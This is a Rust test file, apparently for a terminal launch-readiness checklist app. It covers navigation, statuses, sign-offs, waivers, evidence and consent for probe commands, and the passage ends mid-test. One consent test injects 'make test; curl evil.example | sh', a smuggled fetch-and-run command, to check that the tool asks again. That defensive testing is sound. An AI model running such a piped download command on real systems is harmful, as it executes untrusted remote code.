//! `App::update` as a state machine: keys in, state and effects out, no terminal and no disk.

mod common;

use common::{app, ctrl, key, press, typed};
use golive::session::{EvidenceKind, SignStatus, Status};
use golive::tui::app::{ConfirmKind, Effect, Input, Msg, Overlay, Pane};
use golive::tui::keymap::KeyScope;
use ratatui::crossterm::event::{KeyCode, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};

fn selected_id(app: &golive::tui::app::App) -> String {
    app.item_id()
}

#[test]
fn moving_through_items_and_sections() {
    let mut a = app();
    assert_eq!(selected_id(&a), "security.api-authentication");
    typed(&mut a, "jj");
    assert_eq!(selected_id(&a), "security.session-management");
    press(&mut a, KeyCode::Up);
    assert_eq!(selected_id(&a), "security.user-authorization");
    typed(&mut a, "G");
    assert_eq!(selected_id(&a), "security.data-retention");
    typed(&mut a, "g");
    assert_eq!(selected_id(&a), "security.api-authentication");
    typed(&mut a, "j5");
    assert_eq!(selected_id(&a), "operations.ci-cd-pipeline");
    // Back to section 1: the item selected there before is remembered.
    typed(&mut a, "1");
    assert_eq!(selected_id(&a), "security.user-authorization");
    // Digits past the last section do nothing.
    typed(&mut a, "9");
    assert_eq!(a.section(), 8);
    // Moving never leaves the section in the items pane.
    typed(&mut a, "GGjjj");
    assert_eq!(selected_id(&a), "final.metrics-baseline");
}

#[test]
fn tab_cycles_panes_and_j_moves_sections_in_the_sections_pane() {
    let mut a = app();
    assert_eq!(a.nav().focus, Pane::Items);
    press(&mut a, KeyCode::Tab);
    assert_eq!(a.nav().focus, Pane::Detail);
    press(&mut a, KeyCode::Tab);
    assert_eq!(a.nav().focus, Pane::Sections);
    typed(&mut a, "jj");
    assert_eq!(a.section(), 2);
    assert_eq!(selected_id(&a), "performance.response-time-targets");
    press(&mut a, KeyCode::BackTab);
    assert_eq!(a.nav().focus, Pane::Detail);
    // h/l and the arrows move between panes too.
    typed(&mut a, "h");
    assert_eq!(a.nav().focus, Pane::Items);
    press(&mut a, KeyCode::Right);
    assert_eq!(a.nav().focus, Pane::Detail);
    press(&mut a, KeyCode::Left);
    typed(&mut a, "l");
    assert_eq!(a.nav().focus, Pane::Detail);
}

#[test]
fn statuses_are_set_with_who_and_when_and_saved() {
    let mut a = app();
    assert_eq!(typed(&mut a, " "), vec![Effect::Save]);
    let rec = a.session().record("security.api-authentication").unwrap();
    assert_eq!(rec.status, Status::Pass);
    assert_eq!(rec.by.as_deref(), Some("alice"));
    assert_eq!(rec.at, Some(common::fixed_now()));
    typed(&mut a, "   ");
    assert_eq!(a.session().status("security.api-authentication"), Status::Todo, "Space cycles back to todo");
    for (k, s) in [("f", Status::Fail), ("b", Status::Blocked), ("p", Status::Pass), ("u", Status::Todo)] {
        assert_eq!(typed(&mut a, k), vec![Effect::Save]);
        assert_eq!(a.session().status("security.api-authentication"), s);
    }
    // Setting the same status again changes nothing and saves nothing.
    assert!(typed(&mut a, "u").is_empty());
    let log: Vec<&str> = a.session().history.iter().map(|c| c.change.as_str()).collect();
    assert_eq!(log.first(), Some(&"status todo -> pass"));
    assert_eq!(log.len(), 8);
}

#[test]
fn not_applicable_needs_a_reason() {
    let mut a = app();
    assert!(typed(&mut a, "-").is_empty());
    assert_eq!(a.key_scope(), KeyScope::Prompt);
    assert!(press(&mut a, KeyCode::Enter).is_empty(), "an empty reason is refused");
    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
    assert!(a.flash().as_ref().unwrap().text.contains("needs a reason"));
    assert_eq!(a.key_scope(), KeyScope::Prompt, "the prompt stays open for the reason");
    // Letters typed into the prompt never run commands (q would quit).
    assert!(typed(&mut a, "quiet internal tool").is_empty());
    assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
    let rec = a.session().record("security.api-authentication").unwrap();
    assert_eq!((rec.status, rec.reason.as_deref()), (Status::NotApplicable, Some("quiet internal tool")));
    typed(&mut a, "p");
    assert_eq!(a.session().record("security.api-authentication").unwrap().reason, None);
}

#[test]
fn notes_editor_takes_every_key_and_esc_keeps_the_text() {
    let mut a = app();
    typed(&mut a, "e");
    assert_eq!(a.key_scope(), KeyScope::Notes);
    assert!(typed(&mut a, "qxs?/").is_empty(), "command letters are text here");
    press(&mut a, KeyCode::Enter);
    typed(&mut a, "second line");
    assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::Save]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line");
    // Ctrl-S also finishes; reopening edits the existing text.
    typed(&mut a, "e");
    typed(&mut a, "!");
    assert_eq!(a.update(ctrl('s')), vec![Effect::Save]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "qxs?/\nsecond line!");
    // Unchanged notes save nothing.
    typed(&mut a, "e");
    assert!(press(&mut a, KeyCode::Esc).is_empty());
}

#[test]
fn ctrl_c_quits_from_anywhere_and_keeps_a_note_being_typed() {
    let mut a = app();
    typed(&mut a, "e");
    typed(&mut a, "typed before ctrl-c");
    assert_eq!(a.update(ctrl('c')), vec![Effect::Save, Effect::Quit]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "typed before ctrl-c");
    for setup in ["/", "-", "s", "?", ""] {
        let mut a = app();
        typed(&mut a, setup);
        assert_eq!(a.update(ctrl('c')).last(), Some(&Effect::Quit), "after {setup:?}");
    }
    let mut a = app();
    assert_eq!(typed(&mut a, "q"), vec![Effect::Save, Effect::Quit]);
}

#[test]
fn evidence_is_inspected_then_added_and_deleted_after_confirmation() {
    let mut a = app();
    typed(&mut a, "a");
    typed(&mut a, "https://ci.example/42");
    let fx = press(&mut a, KeyCode::Enter);
    let [Effect::InspectEvidence { item, evidence }] = fx.as_slice() else { panic!("{fx:?}") };
    assert_eq!((*item, evidence.value.as_str(), evidence.by.as_str()), (0, "https://ci.example/42", "alice"));
    let mut e = evidence.clone();
    e.kind = EvidenceKind::Url;
    assert_eq!(a.update(Msg::EvidenceReady { item: 0, evidence: e.clone() }), vec![Effect::Save]);
    e.value = "second".into();
    a.update(Msg::EvidenceReady { item: 0, evidence: e });
    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 2);

    // d deletes the selected entry (the newest) after y.
    typed(&mut a, "d");
    assert_eq!(a.key_scope(), KeyScope::Confirm);
    assert!(typed(&mut a, "n").is_empty());
    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 2);
    // In the detail pane j/k pick the entry.
    press(&mut a, KeyCode::Tab);
    typed(&mut a, "k");
    typed(&mut a, "d");
    assert_eq!(typed(&mut a, "y"), vec![Effect::Save]);
    let left = a.session().record("security.api-authentication").unwrap().evidence.clone();
    assert_eq!(left.len(), 1);
    assert_eq!(left[0].value, "second");
    // An empty entry adds nothing.
    typed(&mut a, "a");
    assert!(press(&mut a, KeyCode::Enter).is_empty());
    // The same entry twice is attached once, and says so.
    assert!(a.update(Msg::EvidenceReady { item: 0, evidence: left[0].clone() }).is_empty());
    assert_eq!(a.flash().unwrap().text, "Already attached: second");
    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 1);
    // A typed path that names no file is asked again with what was typed, never kept as text.
    let mut typo = left[0].clone();
    (typo.kind, typo.value) = (EvidenceKind::Text, "/tmp/no-such-dir/load-test.html".into());
    assert!(a.update(Msg::EvidenceReady { item: 0, evidence: typo }).is_empty());
    assert_eq!(
        a.flash().unwrap().text,
        "No file at /tmp/no-such-dir/load-test.html: correct the path, or Esc."
    );
    let Some(Input::Prompt { area, .. }) = a.input() else { panic!("asked again") };
    assert_eq!(area.lines(), ["/tmp/no-such-dir/load-test.html"]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().evidence.len(), 1);
}

#[test]
fn search_jumps_across_sections_and_n_cycles() {
    let mut a = app();
    typed(&mut a, "/");
    typed(&mut a, "rollback");
    // Live: the selection follows while typing.
    assert_eq!(selected_id(&a), "operations.rollback-procedure");
    press(&mut a, KeyCode::Enter);
    assert_eq!(a.search().matches.len(), 2);
    typed(&mut a, "n");
    assert_eq!(selected_id(&a), "final.rollback-ready");
    typed(&mut a, "n");
    assert_eq!(selected_id(&a), "operations.rollback-procedure");
    typed(&mut a, "N");
    assert_eq!(selected_id(&a), "final.rollback-ready");
    // Descriptions match too; Esc puts the selection back.
    typed(&mut a, "g/");
    press(&mut a, KeyCode::Backspace);
    for _ in 0..8 {
        press(&mut a, KeyCode::Backspace);
    }
    typed(&mut a, "X-Ray");
    assert_eq!(selected_id(&a), "observability.distributed-tracing");
    press(&mut a, KeyCode::Enter);
    // `/` again: the last query comes back selected, and typing replaces it.
    typed(&mut a, "/");
    typed(&mut a, "rollback");
    assert_eq!(a.search().query, "rollback");
    // Ctrl-U clears the line.
    a.update(ctrl('u'));
    let Some(Input::Prompt { area, .. }) = a.input() else { panic!("the prompt is open") };
    assert_eq!(area.lines(), [""]);
    press(&mut a, KeyCode::Esc);
    assert!(a.search().matches.is_empty());
}

/// `F`: the fail items across sections, then blocked, then todo, then all; a status nobody has is
/// passed over, an answered item stays until the selection moves, a section key leaves the filter.
#[test]
fn f_filters_by_status_across_sections() {
    let mut a = app();
    typed(&mut a, "f");
    typed(&mut a, "4jjf");
    typed(&mut a, "9b");
    typed(&mut a, "1");
    typed(&mut a, "F");
    let ids = |a: &golive::tui::app::App| -> Vec<String> {
        a.visible_items().iter().map(|&i| a.checklist().items[i].id.clone()).collect()
    };
    assert_eq!(ids(&a), ["security.api-authentication", "observability.request-tracing"]);
    let screen = common::screen_text(&common::render(&mut a, 120, 40));
    assert!(screen.contains("ONLY FAIL") && screen.contains("Items fail · 2"), "{screen}");
    // Answered while filtered: it stays in view until the selection moves.
    typed(&mut a, "p");
    assert_eq!(ids(&a).len(), 2);
    typed(&mut a, "F");
    assert_eq!(a.nav().filter, Some(Status::Blocked));
    assert_eq!(a.visible_items(), [a.checklist().sections[8].items.start]);
    typed(&mut a, "F");
    assert_eq!(a.nav().filter, Some(Status::Todo));
    assert_eq!(ids(&a).len(), a.checklist().items.len() - 3);
    typed(&mut a, "F");
    assert_eq!(a.nav().filter, None);
    typed(&mut a, "F");
    assert_eq!(a.nav().filter, Some(Status::Fail));
    typed(&mut a, "3");
    assert_eq!(a.nav().filter, None, "a section key shows the whole section");
    assert_eq!(a.section(), 2);
}

#[test]
fn critical_view_shows_the_quick_reference_items() {
    let mut a = app();
    typed(&mut a, "c");
    assert!(a.nav().critical_only);
    assert_eq!(a.visible_items().len(), 12);
    assert_eq!(selected_id(&a), "security.secrets-management");
    typed(&mut a, "G");
    assert_eq!(selected_id(&a), "cost.spending-limits");
    assert!(a.session().ui.critical_only, "remembered in the session");
    typed(&mut a, "c");
    assert!(!a.nav().critical_only);
    assert_eq!(selected_id(&a), "cost.spending-limits");
}

#[test]
fn sign_off_view_names_who_signed_for_whom_and_asks_before_signing_what_is_open() {
    let mut a = app();
    // A failed item in Security.
    typed(&mut a, "f");
    let failed = selected_id(&a);
    typed(&mut a, "s");
    assert_eq!(a.overlay(), Overlay::SignOff { row: 0 });
    // Empty reviewer means the current user.
    press(&mut a, KeyCode::Enter);
    assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
    assert_eq!(a.session().signoff["Security"].reviewer, "alice");
    // Approving an area with a failed item asks first, naming it; no leaves it pending.
    typed(&mut a, "a");
    assert_eq!(a.key_scope(), KeyScope::Prompt);
    press(&mut a, KeyCode::Enter);
    assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::ApproveOpen { row: 0 }))));
    assert_eq!(a.open_items(0), [a.checklist().index_of(&failed).unwrap()]);
    typed(&mut a, "n");
    assert_eq!(a.session().signoff["Security"].status, SignStatus::Pending);
    typed(&mut a, "a");
    press(&mut a, KeyCode::Enter);
    assert_eq!(typed(&mut a, "y"), vec![Effect::Save]);
    let sec = &a.session().signoff["Security"];
    assert_eq!((sec.status, sec.by.as_deref()), (SignStatus::Approved, Some("alice")));
    assert!(sec.fingerprint.is_some());
    // Typed for someone else: the record says who pressed it and for whom.
    typed(&mut a, "jr");
    typed(&mut a, "Priya Natarajan");
    press(&mut a, KeyCode::Enter);
    typed(&mut a, "a");
    assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
    let rel = &a.session().signoff["Reliability"];
    assert_eq!(
        (rel.reviewer.as_str(), rel.by.as_deref(), rel.status, rel.date),
        ("Priya Natarajan", Some("alice"), SignStatus::Approved, Some(common::fixed_now().date_naive()))
    );
    assert_eq!(
        a.session().history.last().unwrap().change,
        "sign-off Reliability: approved by alice for Priya Natarajan"
    );
    // A rejection needs a reason.
    typed(&mut a, "jx");
    press(&mut a, KeyCode::Enter);
    assert_eq!(a.flash().unwrap().text, "A rejection needs a reason: type it, or Esc to cancel.");
    assert_eq!(a.key_scope(), KeyScope::Prompt, "the prompt stays open for the reason");
    typed(&mut a, "p95 over budget");
    press(&mut a, KeyCode::Enter);
    let perf = &a.session().signoff["Performance"];
    assert_eq!((perf.status, perf.reason.as_deref()), (SignStatus::Rejected, Some("p95 over budget")));
    // The final approval while the gate says NO-GO: refused without the exceptions in words.
    typed(&mut a, "jjjjjjjjjj");
    typed(&mut a, "a");
    press(&mut a, KeyCode::Enter);
    assert_eq!(a.key_scope(), KeyScope::Prompt);
    press(&mut a, KeyCode::Enter);
    assert!(
        a.flash().unwrap().text.starts_with("Approving while the gate says NO-GO needs the exceptions"),
        "{:?}",
        a.flash()
    );
    assert_eq!(a.key_scope(), KeyScope::Prompt, "the prompt stays open for the exceptions");
    assert_eq!(a.session().final_approval.as_ref().unwrap().status, SignStatus::Pending);
    typed(&mut a, "launch with the pager gap, owner Bob");
    press(&mut a, KeyCode::Enter);
    let fa = a.session().final_approval.as_ref().unwrap();
    assert_eq!(
        (fa.status, fa.reason.as_deref()),
        (SignStatus::Approved, Some("launch with the pager gap, owner Bob"))
    );
    assert_eq!(a.decision().exceptions.as_deref(), Some("launch with the pager gap, owner Bob"));
    // A change in the area after signing makes its sign-off stale (and the final approval).
    press(&mut a, KeyCode::Esc);
    assert_eq!(a.overlay(), Overlay::None);
    typed(&mut a, "p");
    assert!(matches!(a.signoff_state(0), golive::session::signoff::SignState::Stale(_)));
    assert!(matches!(a.signoff_state(1), golive::session::signoff::SignState::Approved));
    let d = a.decision();
    assert!(d.blockers.iter().any(|b| b.text.starts_with("sign-off Security: stale")), "{d:?}");
}

#[test]
fn a_waiver_is_asked_for_in_a_form_needs_a_second_name_on_a_critical_item_and_expires() {
    let mut a = app();
    typed(&mut a, "c");
    let item = selected_id(&a);
    assert!(a.checklist().items[a.checklist().index_of(&item).unwrap()].critical);
    typed(&mut a, "fw");
    assert_eq!(a.key_scope(), KeyScope::Form);
    typed(&mut a, "vendor patch due Friday");
    press(&mut a, KeyCode::Tab);
    typed(&mut a, "alice");
    assert_eq!(a.update(common::ctrl('s')), vec![]);
    assert!(a.flash().unwrap().text.contains("needs a second name"), "{:?}", a.flash());
    assert_eq!(a.key_scope(), KeyScope::Form, "the form stays open to be mended");
    for _ in 0.."alice".len() {
        press(&mut a, KeyCode::Backspace);
    }
    typed(&mut a, "priya");
    press(&mut a, KeyCode::Tab);
    press(&mut a, KeyCode::Tab);
    typed(&mut a, "OPS-42");
    assert_eq!(press(&mut a, KeyCode::Enter), vec![Effect::Save]);
    let w = a.session().record(&item).unwrap().waiver.clone().unwrap();
    assert_eq!(
        (w.asked_by.as_str(), w.approved_by.as_str(), w.ticket.as_deref()),
        ("alice", "priya", Some("OPS-42"))
    );
    assert_eq!(w.expires, common::fixed_now().date_naive() + chrono::Days::new(14), "the default: 14 days");
    assert!(a.decision().waived.iter().any(|(i, _)| a.checklist().items[*i].id == item));
    let screen = common::screen_text(&common::render(&mut a, 120, 40));
    assert!(screen.contains("Secrets Management ★ ○ waived 14d") && screen.contains("(14 days"), "{screen}");
    // Three weeks later (an injected clock), the waiver has expired and blocks again.
    fn later() -> chrono::DateTime<chrono::Utc> {
        common::fixed_now() + chrono::Duration::days(21)
    }
    let b = golive::tui::app::App::new(
        golive::checklist::Checklist::embedded(),
        a.session().clone(),
        "/srv/launch/session.toml".into(),
        "alice".into(),
        later,
    );
    let expired = b.decision().blockers.iter().find(|x| x.text.starts_with(&item)).unwrap();
    assert!(expired.text.contains("waiver expired on 2026-12-09; failed by alice"), "{}", expired.text);
    // An empty reason withdraws it.
    typed(&mut a, "w");
    for _ in 0.."vendor patch due Friday".len() {
        press(&mut a, KeyCode::Backspace);
    }
    a.update(common::ctrl('s'));
    assert!(a.session().record(&item).unwrap().waiver.is_none());
    assert_eq!(a.session().history.last().unwrap().change, "waiver withdrawn");
}

#[test]
fn why_not_go_lists_the_reasons_and_jumps_to_what_each_names() {
    let mut a = app();
    typed(&mut a, "v");
    assert_eq!(a.key_scope(), KeyScope::Gate);
    let d = a.decision().clone();
    assert_eq!(d.verdict, golive::gate::Verdict::NoGo);
    // The seed's default: the critical items unanswered, every sign-off and the final approval.
    let critical = a.checklist().items.iter().filter(|i| i.critical).count();
    assert_eq!(d.blockers.len(), critical + a.checklist().signoff_areas.len() + 1);
    typed(&mut a, "jj");
    press(&mut a, KeyCode::Enter);
    assert_eq!(a.overlay(), Overlay::None);
    let golive::gate::Subject::Item(i) = d.blockers[2].subject else { panic!("{:?}", d.blockers[2]) };
    assert_eq!(a.nav().selected, i);
    // A sign-off reason opens the sign-off view on its row.
    typed(&mut a, "v");
    typed(&mut a, &"j".repeat(critical));
    press(&mut a, KeyCode::Enter);
    assert_eq!(a.overlay(), Overlay::SignOff { row: 0 });
}

#[test]
fn export_and_help() {
    let mut a = app();
    // x asks where, offering a path; Enter takes it, or another path typed over it.
    assert!(typed(&mut a, "x").is_empty());
    let Some(Input::Prompt { area, .. }) = a.input() else { panic!("asks where") };
    assert_eq!(area.lines(), ["/srv/launch/session-report.md"]);
    assert_eq!(
        press(&mut a, KeyCode::Enter),
        vec![Effect::Export { path: "/srv/launch/session-report.md".into() }]
    );
    let mut b = app().with_report_dir("/home/alice/svc".into());
    typed(&mut b, "x");
    assert_eq!(
        press(&mut b, KeyCode::Enter),
        vec![Effect::Export { path: "/home/alice/svc/session-report.md".into() }]
    );
    a.update(Msg::Exported(Ok("/srv/launch/session-report.md".into())));
    assert_eq!(a.flash().as_ref().unwrap().text, "Report written to /srv/launch/session-report.md");
    typed(&mut a, "?");
    assert_eq!(a.key_scope(), KeyScope::Help);
    typed(&mut a, "jj");
    assert_eq!(a.overlay(), Overlay::Help { scroll: 2 });
    typed(&mut a, "?");
    assert_eq!(a.overlay(), Overlay::None);
}

#[test]
fn a_failed_save_is_kept_on_screen_until_a_save_works() {
    let mut a = app();
    a.update(Msg::Saved(Err("disk full".into())));
    typed(&mut a, "j");
    assert_eq!(a.save().error.as_deref(), Some("disk full"));
    a.update(Msg::Saved(Ok(golive::session::Fingerprint::of(b""))));
    assert_eq!(a.save().error, None);
}

#[test]
fn mouse_selects_sections_and_items_and_the_wheel_scrolls() {
    let mut a = app();
    let areas = a.areas();
    let click = |x, y| {
        Msg::Mouse(MouseEvent {
            kind: MouseEventKind::Down(MouseButton::Left),
            column: x,
            row: y,
            modifiers: KeyModifiers::NONE,
        })
    };
    // Fourth section row (inside the border).
    a.update(click(areas.sections.x + 3, areas.sections.y + 4));
    assert_eq!((a.section(), a.nav().focus), (3, Pane::Sections));
    // Items pane: row 0 is the group heading, row 2 the second item.
    a.update(click(areas.items.x + 5, areas.items.y + 3));
    assert_eq!((selected_id(&a).as_str(), a.nav().focus), ("observability.log-levels", Pane::Items));
    let wheel =
        |kind, x, y| Msg::Mouse(MouseEvent { kind, column: x, row: y, modifiers: KeyModifiers::NONE });
    a.update(wheel(MouseEventKind::ScrollDown, areas.items.x + 5, areas.items.y + 3));
    assert_eq!(selected_id(&a), "observability.request-tracing");
    a.update(wheel(MouseEventKind::ScrollDown, areas.detail.x + 5, areas.detail.y + 3));
    assert_eq!(a.nav().detail_scroll, 3);
    // Clicks are ignored while typing.
    typed(&mut a, "e");
    a.update(click(areas.sections.x + 3, areas.sections.y + 1));
    assert_eq!(a.section(), 3);
    assert!(matches!(a.input(), Some(Input::Notes { .. })));
}

#[test]
fn reopening_resumes_the_selection() {
    let mut a = app();
    typed(&mut a, "4jj");
    let session = a.session().clone();
    let b = golive::tui::app::App::new(
        a.checklist().clone(),
        session,
        a.session_path().to_path_buf(),
        "bob".into(),
        common::fixed_now,
    );
    assert_eq!(b.item_id(), "observability.request-tracing");
}

#[test]
fn unbound_keys_do_nothing() {
    let mut a = app();
    let before = selected_id(&a);
    assert!(a.update(key(KeyCode::F(5))).is_empty());
    assert!(typed(&mut a, "zZ").is_empty());
    assert_eq!(selected_id(&a), before);
}

#[test]
fn a_note_being_typed_is_saved_when_the_user_pauses() {
    let mut a = app();
    typed(&mut a, "e");
    assert!(a.update(Msg::Idle).is_empty(), "nothing typed yet");
    typed(&mut a, "half a thought");
    assert_eq!(a.update(Msg::Idle), vec![Effect::Save]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "half a thought");
    assert!(a.update(Msg::Idle).is_empty(), "unchanged: no second save");
    assert_eq!(a.key_scope(), KeyScope::Notes, "still editing");
    typed(&mut a, ", finished");
    assert_eq!(press(&mut a, KeyCode::Esc), vec![Effect::Save]);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "half a thought, finished");
    let edits = a.session().history.iter().filter(|c| c.change == "notes edited").count();
    assert_eq!(edits, 1, "one history entry per editing session");
    // Idle outside the editor does nothing.
    assert!(a.update(Msg::Idle).is_empty());
}

/// A paste is one text event for the field with focus: never keys, whatever it holds.
#[test]
fn a_paste_goes_to_the_focused_field_and_never_acts() {
    let mut a = app();
    let paste = |a: &mut golive::tui::app::App, text: &str| a.update(Msg::Paste(text.into()));
    // No field: nothing changes, and the flash says so.
    assert!(paste(&mut a, "pq\rfq").is_empty());
    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
    assert!(a.flash().as_ref().unwrap().text.starts_with("Paste ignored"));
    // One-line prompt: the lines joined, said so; Enter is the person's.
    typed(&mut a, "a");
    assert!(paste(&mut a, "https://runbook.example/a\rfpq").is_empty());
    assert_eq!(a.key_scope(), KeyScope::Prompt);
    assert!(a.flash().as_ref().unwrap().text.starts_with("Pasted several lines as one"));
    let Some(Input::Prompt { area, .. }) = &a.input() else { panic!() };
    assert_eq!(area.lines(), ["https://runbook.example/a fpq"]);
    // Escape sequences in a paste are dropped, not typed or passed on.
    press(&mut a, KeyCode::Esc);
    typed(&mut a, "/");
    paste(&mut a, "roll\x1b[2Jback");
    assert_eq!(a.search().query, "roll[2Jback");
    press(&mut a, KeyCode::Esc);
    // The notes editor takes it whole.
    typed(&mut a, "e");
    paste(&mut a, "one\r\ntwo\n");
    press(&mut a, KeyCode::Esc);
    assert_eq!(a.session().record("security.api-authentication").unwrap().notes, "one\ntwo");
    // A confirmation takes no text: a pasted y is not a yes.
    typed(&mut a, "a");
    paste(&mut a, "evidence");
    let fx = press(&mut a, KeyCode::Enter);
    let [Effect::InspectEvidence { item, evidence }] = fx.as_slice() else { panic!("{fx:?}") };
    a.update(Msg::EvidenceReady { item: *item, evidence: evidence.clone() });
    typed(&mut a, "d");
    assert_eq!(a.key_scope(), KeyScope::Confirm);
    assert!(paste(&mut a, "y").is_empty());
    assert_eq!(a.key_scope(), KeyScope::Confirm);
    assert_eq!(a.session().status("security.api-authentication"), Status::Todo);
}

mod probes {
    use super::*;
    use golive::probe::aws::Identity;
    use golive::probe::engine::Event;
    use golive::probe::{Outcome, ProbeResult};
    use golive::tui::app::{AwsView, ConfirmKind};

    fn result(outcome: Outcome, summary: &str) -> ProbeResult {
        ProbeResult {
            outcome,
            summary: summary.into(),
            evidence: vec!["seen".into()],
            at: common::fixed_now(),
            duration_ms: 12,
        }
    }

    /// The app on a session whose target names a repository: commands can run, so it asks.
    fn app_in_repo() -> golive::tui::app::App {
        let mut s =
            golive::session::Session::new(&golive::checklist::Checklist::embedded(), common::fixed_now());
        s.target.repo = Some(".".into());
        common::app_with(s)
    }

    /// Without a repository no command can run: a sweep does not ask about one.
    #[test]
    fn no_command_is_asked_about_without_a_repository() {
        let mut a = app();
        assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 1, .. }]));
        assert!(a.input().is_none());
    }

    /// Starts a sweep of everything, declining the checklist's rollback command when asked (the
    /// first time only: a declined command is not asked about again).
    fn sweep_all(a: &mut golive::tui::app::App) -> Vec<Effect> {
        let fx = typed(a, "A");
        if !fx.is_empty() {
            return fx;
        }
        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
        typed(a, "n")
    }

    fn idx(a: &golive::tui::app::App, id: &str) -> usize {
        a.checklist().index_of(id).unwrap()
    }

    fn identity() -> Identity {
        Identity {
            account: "123456789012".into(),
            arn: "arn:aws:sts::123456789012:assumed-role/ops/x".into(),
            region: "eu-west-1".into(),
        }
    }

    #[test]
    fn r_capital_r_and_a_start_sweeps_of_the_right_items() {
        let mut a = app();
        typed(&mut a, &"j".repeat(14));
        assert_eq!(a.checklist().items[a.nav().selected].id, "security.pii-handling");
        assert!(typed(&mut a, "r").is_empty(), "no probe on PII Handling");
        assert_eq!(a.flash().as_ref().unwrap().text, "This item has no automated check.");
        let probed = |a: &golive::tui::app::App, section: Option<usize>| -> Vec<usize> {
            let c = &a.checklist();
            (0..c.items.len())
                .filter(|&i| c.items[i].is_automated() && section.is_none_or(|s| c.items[i].section == s))
                .collect()
        };
        let section1 = probed(&a, Some(0));
        assert!(section1.contains(&idx(&a, "security.service-linked-roles")));
        assert_eq!(typed(&mut a, "R"), vec![Effect::RunProbes { run: 1, items: section1 }]);
        let all = probed(&a, None);
        assert_eq!(sweep_all(&mut a), vec![Effect::RunProbes { run: 2, items: all.clone() }]);
        assert_eq!(a.runs().aws, AwsView::Connecting);
        let limits = idx(&a, "cost.spending-limits");
        typed(&mut a, "6jj");
        assert_eq!(typed(&mut a, "r"), vec![Effect::RunProbes { run: 3, items: vec![limits] }]);
        assert_eq!(a.runs().running.len(), all.len());
    }

    #[test]
    fn a_command_runs_only_after_a_person_allows_it_and_that_is_remembered() {
        let mut a = app_in_repo();
        typed(&mut a, "A");
        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input() else {
            panic!("no question")
        };
        assert_eq!(a.runs().offered_commands[*command], "./rollback.sh --dry-run");
        let fx = typed(&mut a, "y");
        // Kept in the person's own consent store, never in the session.
        let Effect::Consent(grant) = &fx[0] else { panic!("{fx:?}") };
        assert_eq!(grant.command, "./rollback.sh --dry-run");
        assert_eq!(grant.by, a.who());
        assert_eq!(fx[1], Effect::Save);
        assert!(matches!(&fx[2], Effect::RunProbes { run: 1, .. }), "{fx:?}");
        assert!(a.session().carried_approvals.is_empty());
        assert!(!toml::to_string(&a.session()).unwrap().contains("approved_commands"));
        assert!(
            a.session().history.last().unwrap().change.contains("command allowed: ./rollback.sh --dry-run")
        );
        // Allowed once, not asked again; a command set in the target is a new question.
        press(&mut a, KeyCode::Esc);
        assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 2, .. }]));
        press(&mut a, KeyCode::Esc);
        common::reload(&mut a, |s| drop(s.target.commands.insert("unit".into(), "cargo test".into())));
        assert!(typed(&mut a, "A").is_empty());
        assert!(matches!(a.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
        // Declined: the sweep runs (that check reports it was not allowed) and it is not asked again.
        assert!(matches!(
            typed(&mut a, "n").as_slice(),
            [Effect::Refuse(_), Effect::RunProbes { run: 3, .. }]
        ));
        press(&mut a, KeyCode::Esc);
        assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 4, .. }]));
        assert_eq!(a.allowed_commands(), ["./rollback.sh --dry-run"]);
    }

    /// A no is kept in the person's consent store: after a restart sweeps do not ask again, and
    /// `r` on the item asks.
    #[test]
    fn a_no_is_remembered_and_r_on_the_item_asks_again() {
        let mut a = app_in_repo();
        assert!(typed(&mut a, "A").is_empty());
        let fx = typed(&mut a, "n");
        let [Effect::Refuse(no), Effect::RunProbes { .. }] = fx.as_slice() else { panic!("{fx:?}") };
        assert_eq!((no.command.as_str(), no.by.as_str()), ("./rollback.sh --dry-run", "alice"));
        let mut b = app_in_repo().with_refused(vec![no.clone()]);
        assert!(matches!(typed(&mut b, "A").as_slice(), [Effect::RunProbes { .. }]), "not asked again");
        typed(&mut b, "/rollback procedure");
        press(&mut b, KeyCode::Enter);
        assert_eq!(selected_id(&b), "operations.rollback-procedure");
        assert!(typed(&mut b, "r").is_empty());
        assert!(matches!(b.input(), Some(Input::Confirm(ConfirmKind::RunCommand { .. }))), "r asks again");
    }

    /// Consent is to a command's exact text in one repository: change either and golive asks.
    #[test]
    fn a_consented_command_whose_text_or_repository_changes_is_asked_about_again() {
        let mut a = app_in_repo();
        common::reload(&mut a, |s| drop(s.target.commands.insert("unit".into(), "make test".into())));
        let grants = ["./rollback.sh --dry-run", "make test"]
            .map(|command| golive::consent::Grant {
                command: command.into(),
                repo: Some(".".into()),
                session: golive::consent::session_key(a.session_path()),
                by: "alice".into(),
                at: chrono::DateTime::UNIX_EPOCH,
            })
            .to_vec();
        let checkout = a.trust().checkout.clone();
        let mut a = a.with_trust(grants, vec![], checkout);
        assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 1, .. }]));
        press(&mut a, KeyCode::Esc);
        common::reload(&mut a, |s| {
            s.target.commands.insert("unit".into(), "make test; curl evil.example | sh".into());
        });
        assert!(typed(&mut a, "A").is_empty());
        let Some(Input::Confirm(ConfirmKind::RunCommand { command, .. })) = a.input() else {
            panic!("not asked")
        };
        assert_eq!(a.runs().offered_commands[*command], "make test; curl evil.example | sh");
        press(&mut a, KeyCode::Esc);
